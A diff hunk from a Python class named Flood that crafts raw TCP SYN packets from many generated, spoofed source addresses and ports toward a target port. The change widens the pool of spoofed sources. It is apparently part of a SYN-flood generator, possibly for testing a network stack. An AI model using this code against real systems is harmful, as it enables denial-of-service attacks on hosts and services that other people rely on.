@@ -39,10 +39,10 @@ class Flood:
                            proto, 0) + source + self.target
         self.port.send(self.link + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data)
 
-    def syns(self, first: int, count: int, port: int) -> None:
-        """A SYN from each of `count` strangers."""
+    def syns(self, first: int, count: int, port: int, strangers: int = 1 << 17) -> None:
+        """`count` SYNs, by so many strangers in turn, each from a port of its own."""
         for number in range(first, first + count):
-            source = stranger(number)
+            source = stranger(number % strangers)
             segment = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 0x50, SYN,
                                   65535, 0, 0)
             total = checksum(source + self.target + struct.pack("!HH", 6, 20) + segment)
